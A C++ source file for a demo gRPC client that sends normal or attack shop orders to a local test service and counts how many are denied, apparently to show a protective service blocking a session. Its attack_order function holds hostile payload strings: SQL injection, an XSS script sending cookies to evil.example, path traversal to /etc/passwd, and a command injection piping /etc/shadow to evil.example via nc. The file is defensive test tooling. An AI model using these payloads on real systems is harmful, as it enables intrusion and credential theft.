// A client for examples/grpc_service: sends Order RPCs as one session (metadata "x-session"),
// optionally naming a client address in "x-forwarded-for" (the service trusts it only from a
// configured proxy, as the demo's replayer is), and counts the answers, so the live test
// (live_test.sh) and a person trying docs/integrate.md can see a service get blocked. Normal orders
// draw products, cities and quantities from small word lists; attack orders carry the usual classes
// (SQL injection, XSS, path traversal, command injection, an oversized value, out-of-range numbers,
// deep nesting). Bounded by --count and --seconds. Prints one line:
//   sent=N ok=N denied=N other=N first_denied=I|-1 seconds=S
//   immunizer-grpc-client --target 127.0.0.1:50051 --session alice [--ip 198.51.100.7]
//                         --kind normal --count 100 [--rate 50] [--stop-when-denied] [--seconds 60]
//                         [--seed 1]
#include <grpcpp/grpcpp.h>

#include <cstdio>
#include <random>
#include <string>
#include <vector>

#include "../common/load_client.hpp"
#include "immunizer/test/shop_service.grpc.pb.h"

namespace {

using immunizer::examples::pick;

const std::vector<std::string> kProducts = {"Vino Rioja",     "Queso Manchego",   "Aceite de oliva",
                                            "Jamon iberico",  "Turron de Jijona", "Azafran",
                                            "Chorizo",        "Sobrasada",        "Cava brut",
                                            "Miel de romero", "Pimenton dulce",   "Mazapan"};
const std::vector<std::string> kStreets = {"Calle Mayor 1",       "Gran Via 23",
                                           "Paseo del Prado 8",   "Calle de Alcala 120",
                                           "Avenida Diagonal 45", "Calle Serrano 7"};
const std::vector<std::string> kCities = {"Madrid",   "Barcelona", "Sevilla",
                                          "Valencia", "Bilbao",    "Zaragoza"};
const std::vector<std::string> kCoupons = {"SPRING10", "WELCOME", "FREESHIP", "VIP5"};

immunizer::test::OrderRequest normal_order(std::mt19937& rng) {
  immunizer::test::OrderRequest r;
  r.set_product(pick(rng, kProducts));
  r.set_quantity(std::uniform_int_distribution<int>(1, 6)(rng));
  r.set_price(std::uniform_int_distribution<int>(250, 4500)(rng) / 100.0);
  r.set_gift(std::uniform_int_distribution<int>(0, 4)(rng) == 0);
  r.set_speed(std::uniform_int_distribution<int>(0, 3)(rng) == 0 ? immunizer::test::EXPRESS
                                                                 : immunizer::test::STANDARD);
  r.mutable_ship_to()->set_street(pick(rng, kStreets));
  r.mutable_ship_to()->set_city(pick(rng, kCities));
  if (std::uniform_int_distribution<int>(0, 2)(rng) == 0) r.add_coupons(pick(rng, kCoupons));
  return r;
}

immunizer::test::OrderRequest attack_order(std::mt19937& rng, long i) {
  immunizer::test::OrderRequest r = normal_order(rng);
  switch (i % 7) {
    case 0:
      r.set_product("' OR '1'='1' -- " + std::to_string(i));
      break;
    case 1:
      r.set_product("<script>document.location='http://evil.example/?c='+document.cookie</script>");
      break;
    case 2:
      r.mutable_ship_to()->set_street("../../../../../../etc/passwd%00");
      break;
    case 3:
      r.set_product("Vino; cat /etc/shadow | nc evil.example 4444");
      break;
    case 4:
      r.set_product(std::string(4000, 'A'));
      break;
    case 5:
      r.set_quantity(-999999999);
      r.set_price(-1e12);
      break;
    default: {
      auto* a = r.mutable_ship_to();
      for (int d = 0; d < 12; ++d) a = a->mutable_forward_to();
      a->set_street("UNION SELECT password FROM users");
      break;
    }
  }
  return r;
}

}  // namespace

int main(int argc, char** argv) {
  immunizer::examples::LoadOptions o;
  std::string target = "127.0.0.1:50051";
  const bool parsed = immunizer::examples::parse_load_options(
      argc, argv, o, [&](const std::string& flag, const char* v) {
        if (flag != "--target") return false;
        target = v;
        return true;
      });
  if (!parsed) {
    std::fprintf(stderr,
                 "usage: immunizer-grpc-client [--target HOST:PORT] [--session S] [--ip ADDR] "
                 "[--kind normal|attack] [--count N] [--rate R] [--seconds S] "
                 "[--stop-when-denied] [--seed N]\n");
    return 2;
  }
  auto stub = immunizer::test::Shop::NewStub(
      grpc::CreateChannel(target, grpc::InsecureChannelCredentials()));
  immunizer::examples::run_load(o, [&](long i, std::mt19937& rng) {
    const auto req = o.kind == "attack" ? attack_order(rng, i) : normal_order(rng);
    grpc::ClientContext ctx;
    ctx.AddMetadata("x-session", o.session);
    if (!o.ip.empty()) ctx.AddMetadata("x-forwarded-for", o.ip);
    ctx.set_deadline(std::chrono::system_clock::now() + std::chrono::seconds(5));
    immunizer::test::OrderReply rep;
    const grpc::Status st = stub->Order(&ctx, req, &rep);
    if (st.ok()) return immunizer::examples::Answer::kOk;
    return st.error_code() == grpc::PERMISSION_DENIED ? immunizer::examples::Answer::kDenied
                                                      : immunizer::examples::Answer::kOther;
  });
  return 0;
}
